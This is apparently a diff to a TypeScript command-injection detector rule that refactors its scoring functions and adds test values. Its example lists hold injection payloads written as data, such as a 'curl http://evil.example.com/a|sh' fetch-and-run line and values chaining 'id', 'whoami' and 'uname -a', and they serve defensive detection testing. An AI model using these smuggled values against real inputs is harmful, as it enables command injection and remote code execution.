@@ -17,7 +17,7 @@ import {
 } from '../../placement/command-place.ts';
 import { confidence } from '../../placement/confidence.ts';
 import type { Subject } from '../../placement/subject.ts';
-import { isAtValue } from '../../placement/value-place.ts';
+import { endsInValue, isAtValue } from '../../placement/value-place.ts';
 import { followsValue, wordsBefore } from '../../text/place.ts';
 import type { Match, ValueRule } from '../rule.ts';
 
@@ -71,6 +71,7 @@ export const chainedCommand: ValueRule = {
     'It came too late, on 4/5 (again);curl http://evil.example.com/a|sh',
     { body: { 'query.host': 'it came too late; ls -la /home' } },
     { body: { email: 'it came too late || whoami' } },
+    { body: { host: '10.0.0.1 || hostname ; it came too late' } },
     ...['example.com&set', 'localhost; date', 'x; killall ab #'],
     "The lamp came in a box that was much too large, it is broken'; id; echo 'and so on",
     'He said "it is so" when he was there\'; uname -a #',
@@ -139,6 +140,8 @@ export const chainedCommand: ValueRule = {
     'The network is down; ping -c 3 192.0.2.1',
     { body: { 'query.label': 'The network is down; ping -c 3 192.0.2.1' } },
     { body: { 'query.category': 'name of the shop; id' } },
+    { body: { 'query.fields': 'sku; id; name of the shop' } },
+    { body: { 'query.name': 'Tom && Jerry; the cat & the mouse' } },
     { body: { filename: 'apples and pears; tops & tails' } },
     'To see it, open a terminal && run curl http://www.example.com/a there',
     '10.0.0.1; find out more about it here',
@@ -191,11 +194,11 @@ function scoreOf(subject: Subject, command: Command): number {
     case fit.full:
       return fullScore(text, command, isValue);
     case fit.sureAlone:
-      return sureScore(text, command, isValue);
+      return sureScore(subject, command, isValue);
     case fit.alone:
       // Names of members are no lists, whatever is between their semicolons.
       if (where === 'name' && isValue) return confidence.likely;
-      return aloneScore(text, command, isValue && !isListItem(text, command), confidence.strong);
+      return aloneScore(subject, command, isValue && !isListItem(text, command), confidence.strong);
     case fit.aloneWord:
       return aloneWordScore(text, command, isValue);
     case fit.weak:
@@ -286,16 +289,16 @@ const windowsShells: ReadonlySet<string> = new Set(['cmd', 'powershell', 'pwsh']
 
 /** `tsc && npm run b`: steps of a project's own script. */
 function isBuildStep({ head, name, uses, isSure }: Command): boolean {
-  const isStep = head.introducer === introducer.and || head.introducer === introducer.or;
-  return isStep && !isSure && (uses & use.subcommand) !== 0 && buildTools.has(name);
+  return isDouble(head) && !isSure && (uses & use.subcommand) !== 0 && buildTools.has(name);
 }
 
-function sureScore(text: string, command: Command, isValue: boolean): number {
+function sureScore(subject: Subject, command: Command, isValue: boolean): number {
+  const { text } = subject;
   const { head } = command;
   // `Windows | PowerShell`
   if (windowsShells.has(command.name) && isTitle(text, head.start)) return confidence.hint;
   if (!isValue && endsSentence(text, head, command.end)) return confidence.likely;
-  return aloneScore(text, command, isValue, confidence.certain);
+  return aloneScore(subject, command, isValue, confidence.certain);
 }
 
 function weakScore(text: string, command: Command, isValue: boolean): number {
@@ -329,21 +332,27 @@ const openComment = /^\S?[\s;&]{0,16}(?:(?<=[\s;&])#|(?<=;)\s?:)\s{0,4}$/;
 const openOr = /^\S?\s{0,4}\|\|\s{0,4}$/;
 const startsText = /^['")]{0,3}$/;
 
-function aloneScore(text: string, command: Command, isValue: boolean, score: number): number {
+function aloneScore(subject: Subject, command: Command, isValue: boolean, score: number): number {
+  const { text } = subject;
   if ((command.hidden || command.structured) && isValue) return confidence.certain;
   const ends = endsText(text, command.end);
   if (ends && isValue) return score;
   const isSure = command.fit === fit.sureAlone;
+  if (isValue && (isSure || isDouble(command.head)) && endsInValue(subject, command.end))
+    return score;
   if (isSure && isValue && isFramed(text, command)) return confidence.likely;
   return ends || (command.hidden && isTight(text, command.head))
     ? confidence.hint
     : confidence.trace;
 }
 
+function isDouble({ introducer: by }: Command['head']): boolean {
+  return by === introducer.and || by === introducer.or;
+}
+
 /** `a||whoami||b`, `a && whoami && b`: nothing but another word behind the second mark. */
 function isFramed(text: string, { head, end }: Command): boolean {
-  const isDouble = head.introducer === introducer.and || head.introducer === introducer.or;
-  return isDouble && frameEnd.test(text.slice(end, end + 24));
+  return isDouble(head) && frameEnd.test(text.slice(end, end + 24));
 }
 
 const frameEnd = /^ ?(?:\|\||&&) ?\w{1,12}$/;
